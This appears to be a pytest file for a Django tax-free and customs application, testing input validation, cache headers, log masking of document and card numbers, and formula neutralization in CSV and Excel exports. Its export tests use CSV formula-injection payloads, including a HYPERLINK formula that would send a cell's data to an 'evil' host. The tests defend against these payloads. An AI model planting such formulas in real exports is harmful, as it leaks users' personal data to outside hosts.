"""No 500 on any input, and personal data kept out of URLs, logs, caches and formulas."""

from __future__ import annotations

import io
import logging
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from core.exports import SafeCsvWriter, neutralize_workbook, safe_cell
from core.logging import MaskPersonalData, mask_personal_data
from customs.exports import mailbox_batch_csv
from customs.services import mailbox_batch_open, mailbox_batch_scan

pytestmark = pytest.mark.django_db


def test_limit_and_offset(demo: Any, api: Any) -> None:
    client = api(demo.clerk)
    assert client.get("/api/v1/forms/?limit=200").status_code == 200
    for query in (
        "limit=201",
        "limit=99999999999999999999",
        "limit=0",
        "limit=-1",
        "offset=-1",
        "offset=abc",
        "limit=1e3",
    ):
        response = client.get(f"/api/v1/forms/?{query}")
        assert response.status_code == 400, query
        assert response.json()["code"] == "invalid"


@pytest.mark.parametrize(
    "url", ["/api/v1/kiosk/lookup/", "/api/v1/auth/token/", "/api/v1/forms/", "/api/v1/refunds/"]
)
def test_deep_json_and_lone_surrogates_are_400(demo: Any, api: Any, url: str) -> None:
    client = api(demo.clerk) if url == "/api/v1/forms/" else api(demo.agent)
    if "kiosk" in url or "token" in url:
        client = api()
    deep = client.post(url, "[" * 1000 + "]" * 1000, content_type="application/json")
    assert deep.status_code == 400
    assert deep.json()["code"] == "malformed_request"
    lone = client.post(
        url, '{"form": "P\\ud800", "username": "x\\udfff"}', content_type="application/json"
    )
    assert lone.status_code == 400
    assert lone.json()["code"] == "malformed_request"
    # JSON only: a form-encoded or multipart body is refused, never half-read.
    form = client.post(url, {"drop_date": "True"}, format="multipart")
    assert form.status_code == 415


def test_dates_and_months_out_of_range(demo: Any, api: Any, client: Any) -> None:
    settlement = api(demo.agent).get("/api/v1/settlements/9999-12/")
    assert settlement.status_code == 400
    assert settlement.json()["code"] == "invalid"
    client.force_login(demo.agent)
    # The page says the month is out of range (a 400), never overflows, never shows another month.
    page = client.get("/agency/settlement/?month=9999-12")
    assert page.status_code == 400
    assert "9999-12 is out of range" in page.content.decode()
    assert client.get("/agency/settlement/9999-12.csv").status_code == 404
    client.force_login(demo.clerk)
    assert client.get("/store/?day=0001-01-01").status_code == 200
    body = {
        "buyer_name": "A",
        "issued_on": "9999-12-31",
        "lines": [{"item": "x", "quantity": "1", "unit_price": "10", "vat_rate": "0.13"}],
    }
    invoice = api(demo.clerk).post("/api/v1/invoices/", body, format="json")
    assert invoice.status_code == 400
    batch = api(demo.officer).post(
        "/api/v1/customs/mailbox-batches/", {"drop_date": "0001-01-01"}, format="json"
    )
    assert batch.status_code == 400


def test_no_store_on_personal_data(demo: Any, api: Any, client: Any) -> None:
    assert api(demo.clerk).get("/api/v1/forms/")["Cache-Control"] == "no-store"
    client.force_login(demo.clerk)
    assert "no-store" in client.get("/store/")["Cache-Control"]
    assert "no-store" in client.get("/kiosk/")["Cache-Control"]
    assert "no-store" not in client.get("/api/v1/keys/").get("Cache-Control", "")


def test_log_lines_mask_documents_and_cards() -> None:
    line = "GET /api/v1/forms/?document_number=P12345678 card 4111 1111 1111 1111 HTTP/1.1 200"
    masked = mask_personal_data(line)
    assert "P12345678" not in masked and "P*****678" in masked
    assert "4111 1111 1111 1111" not in masked and "************1111" in masked
    assert mask_personal_data("total 20700.00 at 2026-11-30 12:00:01") == (
        "total 20700.00 at 2026-11-30 12:00:01"
    )
    record = logging.LogRecord("x", logging.INFO, __file__, 1, "doc %s", ("E98765432",), None)
    assert MaskPersonalData().filter(record)
    assert record.getMessage() == "doc E*****432"


def test_every_log_handler_masks(settings: Any) -> None:
    for name, handler in settings.LOGGING["handlers"].items():
        assert "personal_data" in handler.get("filters", []), name
    for logger in ("django", "django.server", "django.request", "celery", ""):
        handlers = logging.getLogger(logger or None).handlers
        # (pytest adds its own capture handlers; ours are the logging module's)
        for handler in [h for h in handlers if type(h) is logging.StreamHandler]:
            assert any(isinstance(f, MaskPersonalData) for f in handler.filters), (logger, handler)
    from pathlib import Path

    path = Path(__file__).resolve().parents[2] / "gunicorn.conf.py"
    config: dict[str, Any] = {"__file__": str(path)}
    exec(path.read_text(), config)  # noqa: S102
    for handler in config["logconfig_dict"]["handlers"].values():
        assert handler["filters"] == ["personal_data"]


def test_exports_neutralize_formulas(demo: Any) -> None:
    for text in ('=HYPERLINK("http://x")', "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("-12.50") == "-12.50"
    assert safe_cell(Any) is Any
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", "ok", 3])
    assert out.getvalue().strip() == "'=1+1,ok,3"
    book = Workbook()
    book.active.append(["=1+1", "plain", 5])
    neutralize_workbook(book)
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [c.value for c in sheet[1]] == ["'=1+1", "plain", 5]


def test_refused_mailbox_scan_keeps_no_raw_code(demo: Any) -> None:
    batch = mailbox_batch_open(port=demo.port, officer=demo.officer, drop_date=None, note="")
    item = mailbox_batch_scan(
        batch=batch, officer=demo.officer, code='=HYPERLINK("http://evil/?x="&A1,"x")'
    )
    assert item.result == "refused"
    for kept in (item.scanned, item.form_number):
        assert kept.isalnum() and kept.isupper()
    exported = mailbox_batch_csv(batch)
    assert "=HYPERLINK" not in exported.replace("'=HYPERLINK", "")
